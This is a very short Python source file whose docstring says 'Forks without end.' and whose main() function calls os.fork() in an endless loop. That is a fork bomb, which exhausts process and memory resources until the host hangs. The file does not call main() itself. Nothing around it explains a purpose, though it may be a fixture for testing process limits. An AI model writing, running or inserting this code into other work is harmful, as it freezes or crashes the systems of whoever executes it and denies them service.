"""Forks without end."""
import os


def main():
    while True:
        os.fork()
